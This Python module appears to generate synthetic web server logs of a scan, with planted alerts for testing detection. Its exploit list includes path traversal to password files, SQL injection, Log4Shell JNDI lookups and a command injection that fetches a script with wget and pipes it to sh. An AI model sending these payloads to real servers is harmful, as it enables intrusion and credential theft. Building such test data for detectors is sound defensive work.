"""A scan of the main site: bursts of 404, refused files, then attempts to exploit what it found."""

from collections.abc import Iterator
from datetime import datetime
from random import Random

from sample_logs.generator.error_lines import bad_uri, no_script, refused
from sample_logs.generator.ledger import Alert, Line, Sign, Story, of_sign, planted
from sample_logs.generator.plan import at, dice, later
from sample_logs.generator.web_lines import ERRORS, ROTATED, Client, Request, access

INTRUDER = "203.0.113.197"
"""Scans on Wednesday, and comes back over SSH in the night that follows."""

_AGENT = "Mozilla/5.0 (compatible; WebProbe/1.4)"

_PLACES = ("", "/admin", "/backup", "/old", "/test", "/dev", "/api", "/cms", "/blog", "/portal")
_NAMES = (
    "config.php.bak",
    "phpinfo.php",
    "db.sql.gz",
    "setup.php",
    "web.config",
    "login.php",
    "dump.tar.gz",
    "shell.php",
    ".git/HEAD",
    "wp-login.php",
    "console/",
    "id_rsa",
)
_REFUSED = ("/.htaccess", "/.htpasswd", "/server-status", "/server-info", "/private/", "/.env")

_EXPLOITS = (
    ("GET", "/download?file=../../../../../../etc/passwd", 404),
    ("GET", "/download?file=..%2f..%2f..%2f..%2fetc%2fshadow", 404),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("GET", "/assets/..%5c..%5c..%5cwindows%5cwin.ini", 400),
    ("GET", "/news?id=7%27%20OR%20%271%27=%271", 200),
    ("GET", "/news?id=7+UNION+SELECT+NULL,user,password+FROM+accounts--+-", 200),
    ("GET", "/news?id=7%3BWAITFOR%20DELAY%20%270:0:9%27--", 200),
    ("GET", "/?q=${jndi:ldap://203.0.113.198:1389/a}", 200),
    ("GET", "/contact?x=${${lower:j}ndi:${lower:l}dap://203.0.113.198/b}", 200),
    ("POST", "/vendor/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=config", 404),
    ("GET", "/search?q=%3Cscript%3Ealert(document.domain)%3C/script%3E", 200),
    ("POST", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 404),
    ("GET", "/ping?host=;wget%20http://203.0.113.198/x.sh%20-O-%7Csh", 404),
)


_FEWER = at(11, "14:30:00")
"""From here on fewer files are asked for."""


def scan() -> Story:
    """Wednesday afternoon: one address asks for hundreds of files that are not there."""
    rng = dice("scan")
    asked = [*_paths(rng, at(11, "14:05:12")), *_exploits(rng, at(11, "14:33:40"))]
    lines = [access(request) for request in asked] + _garbage(rng, at(11, "14:52:00"))
    errors = list(_complaints(asked))
    missed, denied = of_sign(lines, Sign.NOT_FOUND), of_sign(lines, Sign.FORBIDDEN)
    alerts = (
        planted("not-found", missed, "A scanner asks for hundreds of files that do not exist."),
        planted("forbidden", denied, "The same scanner tries files that the server refuses."),
        planted("slow-scan", missed, "So many are too many for a day, too."),
        planted("forced-browsing", missed, "Each of the files has another name."),
        *_complained(errors),
    )
    return Story({ROTATED: lines, ERRORS: errors}, alerts)


def _complained(errors: list[Line]) -> Iterator[Alert]:
    """The alerts of the error log: of refusals while they are many, and of scripts in the scan."""
    denied = [
        fact
        for fact in of_sign(errors, Sign.CLIENT_DENIED)
        if at(11, "14:12:00") < fact.time < at(11, "14:27:00")
    ]
    yield planted("denied-clients", denied, "The error log tells of the refused files too.")
    missing = [fact for fact in of_sign(errors, Sign.SCRIPT_MISSING) if fact.time < _FEWER]
    yield planted("missing-scripts", missing, "The error log tells of the missing scripts too.")


def _paths(rng: Random, time: datetime) -> Iterator[Request]:
    """Every name in every place, with some refused and some existing paths between."""
    client = Client(INTRUDER, _AGENT)
    wanted = [f"{place}/{name}" for place in _PLACES for name in _NAMES]
    rng.shuffle(wanted)
    for number, path in enumerate(wanted):
        time = later(time, rng, 0.4, 22)
        yield Request(time, client, path, 404, 1_187)
        if number % 6 == 4:
            time = later(time, rng, 0.2, 2)
            yield Request(time, client, _REFUSED[number // 6 % len(_REFUSED)], 403, 1_202)
        if number % 17 == 3:
            time = later(time, rng, 0.2, 2)
            yield Request(time, client, "/", 200, 21_440)


def _exploits(rng: Random, time: datetime) -> Iterator[Request]:
    sizes = {200: 21_440, 400: 484, 403: 1_202, 404: 1_187}
    for method, target, status in _EXPLOITS:
        time = later(time, rng, 3, 40)
        client = Client(INTRUDER, _AGENT if rng.random() < 0.6 else "-")
        yield Request(time, client, target, status, sizes[status], method)


def _garbage(rng: Random, time: datetime) -> list[Line]:
    """Other protocols spoken to the web server's plain port."""
    raw = (
        r"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8f\x1a",
        r"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00",
        "SSH-2.0-Go",
        "-",
    )
    lines = []
    for number, text in enumerate(raw):
        time = later(time, rng, 4, 90)
        client = Client(f"203.0.113.{220 + number}", "-")
        status = 408 if text == "-" else 400
        lines.append(access(Request(time, client, "", status, 484, line=text)))
    return lines


def _complaints(asked: list[Request]) -> Iterator[Line]:
    for request in asked:
        if request.status == 403:
            yield refused(request)
        elif request.status == 400:
            yield bad_uri(request)
        elif request.status == 404 and ".php" in request.target:
            yield no_script(request)
